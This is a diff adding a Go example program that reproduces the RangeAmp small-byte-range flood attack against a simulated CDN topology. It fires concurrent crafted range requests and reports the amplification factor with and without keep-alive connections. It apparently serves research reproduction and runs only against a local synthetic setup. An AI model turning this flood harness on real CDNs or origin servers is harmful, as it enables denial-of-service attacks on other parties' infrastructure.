@@ -1,0 +1,59 @@
+// Flood: the §V-D sustained attack through the canonical entry point
+// rangeamp.RunSBRFloodOpts — the same crafted request fired Workers ×
+// PerWorker times concurrently, once dialing per request and once over
+// persistent keep-alive sessions. The wire bytes per request are
+// identical; only the connection economy (and so the attack's cost to
+// the attacker) changes.
+package main
+
+import (
+	"context"
+	"fmt"
+	"log"
+
+	rangeamp "repro"
+)
+
+func main() {
+	if err := run(); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func run() error {
+	const (
+		path = "/video.bin"
+		size = 1 << 20 // 1 MB
+	)
+	ctx := context.Background()
+
+	for _, keepAlive := range []bool{false, true} {
+		store := rangeamp.NewStore()
+		store.AddSynthetic(path, size, "application/octet-stream")
+		topo, err := rangeamp.NewSBRTopology(rangeamp.Cloudflare(), store,
+			rangeamp.SBROptions{OriginRangeSupport: true})
+		if err != nil {
+			return err
+		}
+
+		res, err := rangeamp.RunSBRFloodOpts(ctx, topo, rangeamp.FloodOptions{
+			Path:         path,
+			ResourceSize: size,
+			Workers:      4,
+			PerWorker:    8,
+			KeepAlive:    keepAlive,
+		})
+		topo.Close()
+		if err != nil {
+			return err
+		}
+
+		mode := "one dial per request"
+		if keepAlive {
+			mode = "keep-alive sessions"
+		}
+		fmt.Printf("%-22s: %d requests over %d connections, factor %.0fx\n",
+			mode, res.Requests, res.Dials, res.Amplification.Factor())
+	}
+	return nil
+}
